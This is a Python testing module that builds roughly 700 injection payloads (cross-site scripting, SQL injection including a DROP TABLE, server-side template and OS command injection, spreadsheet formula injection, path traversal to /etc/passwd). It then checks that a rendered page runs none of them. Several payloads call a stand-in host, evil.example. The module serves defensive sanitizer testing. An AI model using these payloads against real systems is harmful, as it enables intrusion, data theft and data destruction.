"""Payloads as attackers send them: each is what somebody has to see as text and no browser may run."""

import itertools

_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "math", "marquee", "a href=#")
_CALLS = ("alert(1)", "fetch('//evil.example')", "eval(atob('YWxlcnQoMSk='))", "document.location='//evil.example'")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "vbscript:", "data:text/html,", "&#106;avascript:")
_WRAPS = ("%s", '"><%s', "'><%s", "</textarea>%s", "</title>%s", "-->%s", "]]>%s", "</script>%s")
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", '<t t-out="request.env.user"/>', '<t t-call="web.login"/>', "{{request.env.cr}}",
    "%(description)s%n%x", "{0.__class__}", "__import__('os').system('id')",
)
_OTHERS = (
    "' OR 1=1 --", "'; DROP TABLE kefu_complaint; --", "\\'; SELECT pg_sleep(5); --", "\x00\x01\x02", "\u202egnp.exe",
    "\ufeff\u200b", "=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "Set-Cookie: a=b\r\nX: y",
    "../../../../etc/passwd",
    "A" * 20_000, "🙈" * 3000, "<" * 3000, "&lt;script&gt;alert(1)&lt;/script&gt;", "<!--#exec cmd='id'-->",
    "<?php phpinfo(); ?>",
    "[a](javascript:alert(1))", "![x](x\" onerror=\"alert(1))", "@everyone", "<@1>", "&#60;img src=x onerror=alert(1)&#62;",
)


def payloads():
    """:return: some 700 different payloads
    :rtype: list[str]
    """
    handlers = [
        f"<{tag} {event}={call}>" for tag, event, call in itertools.product(_TAGS, _EVENTS, _CALLS)
    ]
    scripts = [wrap % f"<script>{call}</script>" for wrap, call in itertools.product(_WRAPS, _CALLS)]
    links = [
        f'{opening}{scheme}{call}{closing}'
        for scheme, call in itertools.product(_SCHEMES, _CALLS)
        for opening, closing in (('<a href="', '">x</a>'), ('<form action="', '"><button>x</button></form>'), ("", ""))
    ]
    attributes = [f'" {event}="{call}" x="' for event, call in itertools.product(_EVENTS, _CALLS)]
    rules = ("*{display:none}", "@import '//evil.example'", "body{background:url(//evil.example)}")
    styles = [f"<style>{rule}</style>" for rule in rules]
    frames = [
        '<base href="//evil.example/">',
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
        '<object data="x">',
        '<embed src="x">',
    ]
    return list(dict.fromkeys([*handlers, *scripts, *links, *attributes, *styles, *frames, *_TEMPLATES, *_OTHERS]))


def live(page, known):
    """:param page: a parsed page with payloads on it
    :param known: the same page without them
    :return: what a browser would run or load, beyond what the page itself has
    :rtype: list[str]
    """
    return sorted(set(_active(page)) - set(_active(known)))


def _active(page):
    for element in page.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in ("script", "style", "iframe", "object", "embed", "base", "svg", "math", "video", "marquee"):
            yield f"{element.tag} {element.get('src') or element.text or ''}"
        for name, value in element.attrib.items():
            squeezed = "".join(char for char in value if char.isprintable() and not char.isspace()).lower()
            is_link = name in ("href", "src", "action", "formaction", "data", "content")
            is_hostile = any(sign in squeezed for sign in ("script:", "evil.example", "data:text"))
            if name.startswith("on") or (is_link and is_hostile):
                yield f"{element.tag} {name}={value}"
